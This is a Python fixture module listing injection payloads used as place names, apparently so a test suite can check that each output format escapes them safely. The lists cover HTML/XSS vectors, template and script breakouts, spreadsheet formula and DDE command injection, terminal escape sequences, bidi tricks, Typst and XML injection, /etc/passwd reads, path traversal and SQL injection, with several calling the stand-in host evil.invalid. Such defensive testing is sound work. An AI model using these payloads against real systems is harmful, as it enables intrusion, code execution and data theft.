"""Names of places as an attacker would choose them, by the reader that they aim at.

Not a test: `tests/test_payloads.py` writes each of them through every format. Whatever of them could run would call
`SIGN`, open a dialog, or ask the server `HOST`, which does not exist.
"""

from __future__ import annotations

SIGN, HOST = "pwned()", "evil.invalid"

HTML = (
    f"<script>{SIGN}</script>", f"</script><script>{SIGN}</script>", f"</SCRIPT ><sCrIpT>{SIGN}</ScRiPt>",
    f"<img src=x onerror={SIGN}>", f"<img src='//{HOST}/x.png'>", f'"><img src=x onerror={SIGN}>',
    f"'><svg onload={SIGN}>", f"<svg><script>{SIGN}</script></svg>", f"<svg/onload={SIGN}>",
    f"<svg><animate onbegin={SIGN} attributeName=x dur=1s>", f"<body onload={SIGN}>",
    f"<iframe src='javascript:{SIGN}'></iframe>", f"<iframe src='//{HOST}/'></iframe>",
    f"<iframe srcdoc='<script>{SIGN}</script>'>", f"<object data='//{HOST}/x'></object>",
    f"<embed src='//{HOST}/x'>", f"<link rel=stylesheet href='//{HOST}/x.css'>", f"<base href='//{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>", f"<form action='//{HOST}/'><button>go",
    f"<input autofocus onfocus={SIGN}>", f"<details open ontoggle={SIGN}>x</details>",
    f"<video><source onerror={SIGN}>", f"<audio src=x onerror={SIGN}>", f"<marquee onstart={SIGN}>",
    f"<a href='javascript:{SIGN}'>click</a>", f"<a href='data:text/html,<script>{SIGN}</script>'>x</a>",
    f"<style>@import '//{HOST}/x.css'</style>", f"<div style='background:url(//{HOST}/x)'>",
    f"<math><mtext><script>{SIGN}</script>", f"<template><script>{SIGN}", f"<!--><script>{SIGN}</script>-->",
    f"<!-- --!><script>{SIGN}</script>", f"<![CDATA[<script>{SIGN}</script>]]>", f"</title><script>{SIGN}</script>",
    f"</textarea><script>{SIGN}</script>", f"</style><script>{SIGN}</script>",
    f"</noscript><img src=x onerror={SIGN}>", f"&lt;script&gt;{SIGN}&lt;/script&gt;",
    f"&#60;img src=x onerror={SIGN}&#62;", f"\\u003cscript\\u003e{SIGN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={SIGN}\\x3e", f"<x\tonclick={SIGN}>x", f"<scr\0ipt>{SIGN}</scr\0ipt>",
    f"＜script＞{SIGN}＜/script＞", f"<img src=x:x onerror\x0b={SIGN}>", "<", "&", "\"'`",
)  # fmt: skip
SCRIPT = (
    f"'-{SIGN}-'", f'"-{SIGN}-"', f"`-{SIGN}-`", f"${{{SIGN}}}", f"';{SIGN}//", f'";{SIGN}//', f"\\';{SIGN}//",
    f"\\u2028{SIGN}", f"\u2028{SIGN}\u2029", f"*/{SIGN}/*", f"-->{SIGN}", "__proto__", "constructor", "toString",
    f"{{{{{SIGN}}}}}", f"{{% print({SIGN}) %}}", f"<%= {SIGN} %>", f"#{{{SIGN}}}", "]]>", "{oops} {0} %s %(x)s",
)  # fmt: skip
FORMULA = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", f'=HYPERLINK("http://{HOST}","x")',
    "=cmd|'/c calc'!A0", "=DDE(\"cmd\";\"/c calc\";\"x\")", f'=WEBSERVICE("http://{HOST}")',
    f'=IMAGE("http://{HOST}/x")', '=IMPORTXML("x","y")', "＝1+1", "＋1", "－1+1", "＠SUM(A1)", '"=1+1', "'=1+1",
    ';=1+1', '","=1+1', "{=1+1}", "%=1", " =1+1",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.invalid\x07link\x1b]8;;\x07", "\x1b[31mred", "\x9b2J",
    "\x08\x08\x08", "a\rb", "a\nb", "\x00", "\x7f", "\x1bPq#0\x1b\\", "\x1b[6n",
)  # fmt: skip
TURNED = (
    "\u202egpj.exe", "\u2066abc\u2069", "\u200fabc", "\u061cabc", "a\u202ab\u202c", "\ufeffabc", "a\u200bb",
    "\u202d12",
)  # fmt: skip
TYPST = (
    '#read("/etc/passwd")', '#image("x.png")', '#include "x.typ"', "#panic()", f'#link("http://{HOST}")[x]',
    "$x$ *b* _i_", "@ref <label>", "\\ // /* `raw` ```", "= heading", "#[#set page(width: 1pt)]", "#eval(\"1\")",
    "[]{}()#\\",
)  # fmt: skip
XML = (
    "<w:t>x</w:t>", "</w:t></w:r></w:p>", "<w:instrText>DDEAUTO c:\\\\windows</w:instrText>", "&amp;lt;", "&xxe;",
    "\ufffe", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "\ud800".encode("utf-8", "replace").decode(), "\x0c\x0b\x01",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "~root", "a/b", "x" * 350, "file:///etc/passwd",
    ".", "..", "'; DROP TABLE settlements; --", "' OR '1'='1", "a\\", "sites.csv",
)  # fmt: skip

ALL = (*HTML, *SCRIPT, *FORMULA, *TERMINAL, *TURNED, *TYPST, *XML, *PATHS)
